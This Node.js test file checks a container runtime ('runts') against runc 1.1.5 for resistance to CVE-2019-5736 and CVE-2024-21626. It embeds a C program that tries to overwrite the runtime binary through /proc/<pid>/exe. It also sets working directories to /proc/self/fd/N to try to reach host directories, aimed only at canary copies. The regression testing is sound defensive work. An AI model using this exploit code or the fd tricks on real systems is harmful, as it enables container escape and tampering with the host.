// Attacks of the CVE classes on the init's last steps (issue 9), each aimed only at canary copies in
// a temporary directory, each run under runc 1.1.5 too:
// - CVE-2019-5736: a process in the container opens /proc/<pid>/exe of the runtime's init (waiting
//   in the created state) and of every runts-init joining with exec, and tries to reopen it for
//   writing: it must fail and the executor binary (a canary copy the runtime is run from) must be
//   unchanged;
// - CVE-2024-21626: a cwd or fd of the runtime that leads to the host (process.cwd
//   /proc/self/fd/N, exec --cwd /proc/self/fd/N): refused, and no fd but stdio reaches the process.
import { test, describe, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, mkdirSync, copyFileSync, chmodSync, readFileSync, writeFileSync, rmSync, existsSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { runtime, makeBundle, newId, show, spawnCapture, REPO } from '../lib/index.mjs';

const rt = runtime();
const runc = runtime('runc');
const tmp = mkdtempSync(join(tmpdir(), 'runts-cve-'));
const bundles = [];
after(() => {
  for (const b of bundles) b.cleanup();
  rmSync(tmp, { recursive: true, force: true });
});

const sha = (p) => createHash('sha256').update(readFileSync(p)).digest('hex');
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

// For N seconds, every other process of the container: open /proc/<pid>/exe O_PATH, reopen it for
// writing through /proc/self/fd and write. One line per comm: how far it got; WROTE on success.
const ATTACK_C = String.raw`#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
struct seen { char comm[32]; int tries, opened, open_err, reopen_err, write_err, wrote; };
static struct seen seen[64];
static int nseen;
static struct seen *slot(const char *comm)
{
	for (int i = 0; i < nseen; i++)
		if (!strcmp(seen[i].comm, comm))
			return &seen[i];
	if (nseen == 63)
		return &seen[63];
	snprintf(seen[nseen].comm, sizeof seen[nseen].comm, "%s", comm);
	return &seen[nseen++];
}
int main(int argc, char **argv)
{
	int secs = argc > 1 ? atoi(argv[1]) : 5;
	pid_t self = getpid(), parent = getppid();
	time_t end = time(NULL) + secs;
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			pid_t p = atoi(e->d_name);
			if (p <= 0 || p == self || p == parent)
				continue;
			char path[64], comm[32] = "?";
			snprintf(path, sizeof path, "/proc/%d/comm", p);
			int cf = open(path, O_RDONLY);
			if (cf >= 0) {
				ssize_t n = read(cf, comm, sizeof comm - 1);
				comm[n > 0 ? n - 1 : 0] = 0;
				close(cf);
			}
			if (!strcmp(comm, "sh") || !strcmp(comm, "true"))
				continue;
			struct seen *s = slot(comm);
			s->tries++;
			snprintf(path, sizeof path, "/proc/%d/exe", p);
			int fd = open(path, O_PATH);
			if (fd < 0) {
				s->open_err = errno;
				continue;
			}
			s->opened++;
			char again[64];
			snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
			int w = open(again, O_WRONLY);
			if (w < 0) {
				s->reopen_err = errno;
			} else {
				if (write(w, "pwned", 5) == 5)
					s->wrote++;
				else
					s->write_err = errno;
				close(w);
			}
			close(fd);
		}
		if (d)
			closedir(d);
	}
	for (int i = 0; i < nseen; i++)
		printf("%s tries=%d opened=%d open=%s reopen=%s write=%s%s\n", seen[i].comm, seen[i].tries, seen[i].opened,
		       seen[i].open_err ? strerror(seen[i].open_err) : "-", seen[i].reopen_err ? strerror(seen[i].reopen_err) : "-",
		       seen[i].write_err ? strerror(seen[i].write_err) : "-", seen[i].wrote ? " WROTE" : "");
	return 0;
}
`;

function attacker() {
  const out = join(tmp, 'attack');
  if (!existsSync(out)) {
    writeFileSync(join(tmp, 'attack.c'), ATTACK_C);
    execFileSync('gcc', ['-static', '-O2', '-o', out, join(tmp, 'attack.c')]);
  }
  return out;
}

/** The runtime run from canary copies: runts with RUNTS_INIT set to a copy of runts-init, runc as a
 *  copy first on PATH. Returns the env for its commands and the canary path. */
function canary(r) {
  const dir = join(tmp, `canary-${r.name}`);
  mkdirSync(dir, { recursive: true });
  if (r.name === 'runc') {
    const src = execFileSync('sh', ['-c', 'command -v runc'], { encoding: 'utf8' }).trim();
    const c = join(dir, 'runc');
    copyFileSync(src, c);
    chmodSync(c, 0o755);
    return { env: { PATH: `${dir}:${process.env.PATH}` }, file: c };
  }
  const c = join(dir, 'runts-init');
  copyFileSync(join(REPO, 'native/nsenter/build/runts-init'), c);
  chmodSync(c, 0o755);
  return { env: { RUNTS_INIT: c }, file: c };
}

describe(`CVE-2019-5736: the executor is not writable through /proc/<pid>/exe (${rt.name}; runc 1.1.5 beside it)`, () => {
  for (const r of [rt, runc]) {
    test(`${r.name}: the created init and the joining exec processes resist, the canary executor is unchanged`, async (t) => {
      const b = await makeBundle({ name: `cve5736-${r.name}`, args: ['sleep', '1000'], readonly: false });
      bundles.push(b);
      copyFileSync(attacker(), join(b.rootfs, 'attack'));
      chmodSync(join(b.rootfs, 'attack'), 0o755);
      const { env, file } = canary(r);
      const before = sha(file);
      const id = newId(`cve5736-${r.name}`);
      t.after(() => r.forceDelete(id, { env }));
      const c = await r.create(id, { bundle: b.dir }, { env });
      assert.equal(c.code, 0, show(c));
      // the attacker runs in the container while the init waits in the created state, and while
      // exec'd processes join (their executor is in the container's pid namespace for a moment)
      const a = await r.exec(id, ['sh', '-c', '/attack 4 > /attack.out 2>&1'], { detach: true }, { env });
      assert.equal(a.code, 0, show(a));
      for (let i = 0; i < 8; i++) {
        const e = await r.exec(id, ['true'], {}, { env });
        assert.equal(e.code, 0, show(e));
      }
      const outFile = join(b.rootfs, 'attack.out');
      for (let i = 0; i < 100 && !(existsSync(outFile) && readFileSync(outFile, 'utf8').includes('tries=')); i++) await sleep(100);
      await sleep(300);
      const out = readFileSync(outFile, 'utf8');
      t.diagnostic(`${r.name}: ${out.trim().replace(/\n/g, ' | ')}`);
      assert.doesNotMatch(out, /WROTE/, out);
      // the attack reached the init waiting in the created state (runts-init names itself so)
      const initComm = r.name === 'runc' ? /^runc:\[2:INIT\] tries=[1-9]/m : /^runts-init tries=[1-9]/m;
      assert.match(out, initComm, out);
      assert.equal(sha(file), before, 'the canary executor is unchanged');
    });
  }
});

describe(`CVE-2024-21626: no fd or cwd of the runtime reaches the host (${rt.name}; runc 1.1.5 beside it)`, () => {
  // pwd -P: getcwd(); a cwd reached through a leaked host fd shows as "(unreachable)/..." or fails
  const SHOW = 'echo "cwd=$(pwd -P 2>&1)"; echo "fds=$(ls /proc/$$/fd | sort -n | tr "\\n" " ")"';

  test('run: process.cwd /proc/self/fd/N (N = 3..12) is refused or lands inside the container', async (t) => {
    const b = await makeBundle({ name: 'cve21626', args: ['sh', '-c', SHOW], readonly: false });
    bundles.push(b);
    const runcSeen = [];
    const oursSeen = [];
    for (let n = 3; n <= 12; n++) {
      b.config.process.cwd = `/proc/self/fd/${n}`;
      b.write();
      for (const r of [rt, runc]) {
        const id = newId(`cve21626-${r.name}`);
        t.after(() => r.forceDelete(id));
        const res = await r.run(id, { bundle: b.dir });
        const cwd = /^cwd=(.*)$/m.exec(res.stdout)?.[1];
        if (r === runc) {
          runcSeen.push(`${n}:${res.code === 0 ? cwd : 'refused'}`);
          continue;
        }
        oursSeen.push(`${n}:${res.code === 0 ? cwd : 'refused'}`);
        if (res.code === 0) {
          // allowed only when it is the container's own directory
          assert.match(cwd ?? '', /^\/[^()]*$/, `fd ${n}\n${show(res)}`);
          assert.doesNotMatch(cwd ?? '', /unreachable/, show(res));
        } else {
          assert.match(res.stderr, /process\.cwd|chdir|cwd/, `fd ${n} refused, naming the cwd\n${show(res)}`);
        }
      }
    }
    t.diagnostic(`${rt.name}: ${oursSeen.join(' ')}`);
    t.diagnostic(`runc 1.1.5: ${runcSeen.join(' ')}`);
  });

  // the class itself: a directory fd of the host reaches the init (here on purpose, with
  // --preserve-fds: fd 3 is a canary directory of the host) and the cwd goes through it
  for (const verb of ['run', 'exec']) {
    test(`${verb}: a host directory fd given to the container (--preserve-fds) as the cwd is refused, naming process.cwd`, async (t) => {
      const hostDir = join(tmp, `hostdir-${verb}`);
      mkdirSync(hostDir, { recursive: true });
      writeFileSync(join(hostDir, 'canary'), 'host\n');
      const b = await makeBundle({ name: `cve21626p-${verb}`, args: verb === 'run' ? ['sh', '-c', SHOW] : ['sleep', '1000'], readonly: false });
      bundles.push(b);
      const seen = {};
      for (const r of [rt, runc]) {
        const id = newId(`cve21626p-${r.name}`);
        t.after(() => r.forceDelete(id));
        let argv;
        if (verb === 'run') {
          b.config.process.cwd = '/proc/self/fd/3';
          b.write();
          argv = [...r.argv('run'), '--preserve-fds', '1', '--bundle', b.dir, id];
        } else {
          const c = await r.run(id, { bundle: b.dir, detach: true });
          assert.equal(c.code, 0, show(c));
          argv = [...r.argv('exec'), '--preserve-fds', '1', '--cwd', '/proc/self/fd/3', id, 'sh', '-c', SHOW];
        }
        const q = (a) => `'${a.replace(/'/g, `'\\''`)}'`;
        const res = await spawnCapture(['sh', '-c', `exec 3< ${q(hostDir)}; exec ${argv.map(q).join(' ')}`]);
        seen[r.name] = res;
      }
      const ours = seen[rt.name];
      assert.notEqual(ours.code, 0, show(ours));
      // run: the cwd is made (mkdir) in the rootfs first, where /proc/self/fd/3 is a magic link
      // (ELOOP); exec: chdir goes through fd 3 and getcwd() then fails (ENOENT, "(unreachable)")
      assert.match(ours.stderr, /process\.cwd \(\/proc\/self\/fd\/3\): (mkdir \/proc\/self\/fd\/3: too many levels of symbolic links|getcwd: no such file or directory|.*outside of the container root)/, show(ours));
      assert.doesNotMatch(ours.stdout, /cwd=/, 'the process never ran');
      const rr = seen.runc;
      t.diagnostic(`runc 1.1.5: exit ${rr.code} ${(/^cwd=.*$/m.exec(rr.stdout) ?? [rr.error?.trim?.() ?? ''])[0]}`);
    });
  }

  test('exec --cwd /proc/self/fd/N (N = 3..12) is refused or lands inside the container; no fd but stdio reaches the process', async (t) => {
    const b = await makeBundle({ name: 'cve21626x', args: ['sleep', '1000'], readonly: false });
    bundles.push(b);
    const runcSeen = [];
    for (const r of [rt, runc]) {
      const id = newId(`cve21626x-${r.name}`);
      t.after(() => r.forceDelete(id));
      const c = await r.run(id, { bundle: b.dir, detach: true });
      assert.equal(c.code, 0, show(c));
      const plain = await r.exec(id, ['sh', '-c', SHOW]);
      assert.equal(plain.code, 0, show(plain));
      // 0 1 2, and 3 is ls's own directory fd
      assert.match(plain.stdout, /^fds=0 1 2 3 $/m, `${r.name}\n${show(plain)}`);
      for (let n = 3; n <= 12; n++) {
        const res = await r.exec(id, ['sh', '-c', SHOW], { cwd: `/proc/self/fd/${n}` });
        const cwd = /^cwd=(.*)$/m.exec(res.stdout)?.[1];
        if (r === runc) {
          runcSeen.push(`${n}:${res.code === 0 ? cwd : 'refused'}`);
          continue;
        }
        if (res.code === 0) {
          assert.match(cwd ?? '', /^\/[^()]*$/, `fd ${n}\n${show(res)}`);
          assert.match(res.stdout, /^fds=0 1 2 3 $/m, show(res));
        } else {
          assert.match(res.stderr, /cwd|chdir/, `fd ${n} refused, naming the cwd\n${show(res)}`);
        }
      }
    }
    t.diagnostic(`runc 1.1.5: ${runcSeen.join(' ')}`);
  });
});
